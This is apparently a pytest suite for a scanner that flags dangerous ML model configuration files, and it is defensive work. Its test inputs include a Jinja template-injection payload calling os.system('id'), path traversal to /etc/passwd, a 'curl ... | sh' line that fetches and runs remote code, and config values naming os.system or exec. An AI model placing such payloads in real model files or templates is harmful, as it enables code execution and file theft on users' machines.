"""JSON documents: what loaders follow is told, the rest is silent."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.scanner.told import CLEAN, ERROR, MALICIOUS, SUSPICIOUS, assert_clean, rules, tell

FIXTURES = Path(__file__).parents[2] / "fixtures"


@pytest.mark.parametrize(
    "path", sorted(FIXTURES.rglob("*/*.json")), ids=lambda p: "/".join(p.parts[-3:])
)
def test_real_documents_are_clean(path: Path) -> None:
    assert tell(path.read_bytes(), path.name).verdict is CLEAN


@pytest.mark.parametrize(
    ("document", "rule"),
    [
        ({"auto_map": {"AutoModel": "modeling.Model"}}, "config-names-code"),
        ({"a": {"b": [{"auto_map": {"AutoConfig": "x.Y"}}]}}, "config-names-code"),
        ({"_attn_implementation": "org/kernel:fn"}, "config-names-code"),
        ({"custom_pipelines": {"t": {"impl": "a.B"}}}, "config-names-code"),
        ({"transformers_weights": "adapter.bin"}, "config-leaves-folder"),
        ({"audio_tokenizer_name_or_path": "org/other"}, "config-leaves-folder"),
        ({"vocab_file": "../../etc/passwd"}, "config-leaves-folder"),
        ({"weight_map": {"a.weight": "../other.safetensors"}}, "index-leaves-folder"),
        ({"chat_template": "{{ ''.__class__ }}"}, "template-reaches-python"),
        ({"chat_template": [{"name": "d", "template": "{{ x.__init__ }}"}]},
         "template-reaches-python"),
    ],
)  # fmt: skip
def test_what_loaders_follow_is_told(document: object, rule: str) -> None:
    assert rules(tell(json.dumps(document).encode(), "config.json")) == {rule}


def test_a_safetensors_index_that_names_a_pickle_is_told() -> None:
    document = json.dumps({"weight_map": {"a": "pytorch_model.bin"}}).encode()
    assert rules(tell(document, "model.safetensors.index.json")) == {"index-leaves-folder"}
    assert rules(tell(document, "pytorch_model.bin.index.json")) == set()


@pytest.mark.parametrize(
    "document",
    [
        {"_name_or_path": "/home/somebody/model", "attn_implementation": "sdpa"},
        {"model": {"vocab": {"auto_map": 1, "module": 2, "checkpoint": 3, "kernel": 4}}},
        {"chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"},
        [],
        [1, 2],
    ],
)
def test_the_rest_is_silent(document: object) -> None:
    assert_clean(json.dumps(document).encode(), "json", "config.json")


def test_lines_of_json_are_data() -> None:
    assert_clean(b'{"a": 1}\n{"a": 2}\n', "json", "log.jsonl")


def test_broken_documents_are_not_clean() -> None:
    assert tell(b'{"a": 1', "config.json").verdict is ERROR
    assert tell(b'{"a": ' * 100_000, "config.json").verdict is ERROR
    assert tell(b'{"a": 1, "a": 2}', "config.json").verdict is SUSPICIOUS


@pytest.mark.parametrize(
    "document",
    [{"_class_name": "P", "unet": ["os", "system"]}, {"_class_name": ["evil", "P"]},
     {"_diffusers_version": "0.30", "vae": ["evil.module", "Vae"]},
     [{"idx": 0, "name": "0", "path": "", "type": "os.system"}],
     [{"idx": 0, "name": "0", "path": "../x", "type": "sentence_transformers.models.Pooling"}]],
)  # fmt: skip
def test_components_from_elsewhere_are_told(document: object) -> None:
    assert tell(json.dumps(document).encode(), "model_index.json").verdict is not CLEAN


def test_ordinary_components_are_clean() -> None:
    pipeline = {
        "_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
        "unet": ["diffusers", "UNet2DConditionModel"], "image_encoder": [None, None],
        "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
    }  # fmt: skip
    modules = [{"idx": 0, "name": "0", "path": "1_Pooling",
                "type": "sentence_transformers.models.Pooling"}]  # fmt: skip
    for document in (pipeline, modules):
        assert tell(json.dumps(document).encode(), "model_index.json").verdict is CLEAN


def test_settings_of_a_diffusers_model_are_no_components() -> None:
    blocks = {"down_block_types": ["DownBlock2D", "AttnDownBlock2D"], "_diffusers_version": "0.30"}
    unet = {"_class_name": "UNet2DModel", **blocks}
    pipeline = {"_class_name": "DDPMPipeline", "unet": ["os", "system"], **blocks}

    assert tell(json.dumps(unet).encode(), "config.json").verdict is CLEAN
    assert tell(json.dumps(unet).encode(), "model_index.json").verdict is not CLEAN
    assert tell(json.dumps(pipeline).encode(), "config.json").verdict is not CLEAN
    assert tell(json.dumps({**unet, "_class_name": ["evil", "P"]}).encode(), "config.json").findings


def test_tables_of_toml_are_no_list() -> None:
    assert tell(b'[[package]]\nname = "a"\n', "poetry.lock").verdict is CLEAN
    assert tell(b"[[1, 2], [3]]", "a.json").format == "json"
    for broken in (b'[["a"', b"[" * 100, b"[" * 63 + b"1", b"[" * 64 + b"1"):
        assert tell(broken, "a.json").verdict is ERROR


def test_a_module_behind_many_others_is_told() -> None:
    module = {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Pooling"}
    document = [module] * 1_500 + [{**module, "type": "evil.Module"}]
    assert "config-names-code" in rules(tell(json.dumps(document).encode(), "modules.json"))


def test_a_long_way_of_blanks_is_no_disguise() -> None:
    document = b" \n" * 5_000 + b'{"auto_map": {"AutoModel": "m.M"}}'
    assert "config-names-code" in rules(tell(document, "config"))


@pytest.mark.parametrize(
    "document",
    [
        {"model": {"target": "os.system", "params": {}}},
        {"model": {"class_path": "subprocess.Popen", "init_args": {}}},
        {"handlers": {"h": {"()": "os.system"}}},
        {"module": "os", "function": "system"},
        {"__module__": "builtins", "__class__": "eval"},
        {"a": [{"callable": "builtins:exec"}]},
    ],
    ids=lambda document: next(iter(document)),
)
def test_what_runs_something_is_told_under_any_key(document: dict[str, Any]) -> None:
    assert tell(json.dumps(document).encode(), "x.json").verdict is MALICIOUS


@pytest.mark.parametrize("key", ["answer", "system", "title"])
def test_a_name_under_a_key_of_prose_is_doubted(key: str) -> None:
    told = tell(json.dumps({key: "os.system"}).encode(), "x.json")
    assert told.verdict is SUSPICIOUS
    assert_clean(f'{{"{key}": "os.system"}}\n{{"{key}": "os.path"}}\n'.encode(), "json", "x.jsonl")


@pytest.mark.parametrize("key", ["chat_template", "prompt_template", "system"])
def test_a_template_is_one_under_any_key(key: str) -> None:
    source = "{{ cycler.__init__.__globals__.os.system('id') }}"
    for value in (source, {"a": {"b": source}}):
        assert tell(json.dumps({key: value}).encode(), "config.json").verdict is MALICIOUS


def test_lines_of_json_are_looked_into() -> None:
    data = b'{"auto_map": {"AutoModel": "a.B"}}\n{"a": 1}\n'
    assert "config-names-code" in rules(tell(data, "x.jsonl"))


def test_words_of_a_vocabulary_name_nothing() -> None:
    words = {"model": {"vocab": {"os.system": 1, "{{": 2}, "list": [["os.system", -1.0], "eval"]}}
    assert_clean(json.dumps(words).encode(), "json", "tokenizer.json")


@pytest.mark.parametrize(
    "document",
    [
        {"callbacks": ["os.system"]}, {"plugins": ["evil.so"]}, {"file": "../../x.bin"},
        {"weights": "../../../x.pt"}, {"$ref": "file:///etc/passwd"}, {"so_path": "x.so.1"},
        {"formula": "__import__('os').popen('id')"}, {"cmd": "curl https://example.invalid | sh"},
    ],
    ids=str,
)  # fmt: skip
def test_values_that_lead_out_load_or_act_are_told(document: dict[str, object]) -> None:
    assert tell(json.dumps(document).encode(), "config.json").verdict is not CLEAN


@pytest.mark.parametrize(
    "document",
    [
        {"output_dir": "../results"}, {"$ref": "#/definitions/x"}, {"file": "model.bin"},
        {"prompt": "explain eval(x)"}, {"tags": ["text.generation", "a"]},
        {"base_url": "https://example.org/x"}, {"formula": "evaluate(x) + 1"},
        {"merges": [["os.system", "x"]]}, {"logging_dir": "../runs/x"},
    ],
    ids=str,
)  # fmt: skip
def test_ordinary_values_stay_clean(document: dict[str, object]) -> None:
    assert tell(json.dumps(document).encode(), "config.json").findings == ()
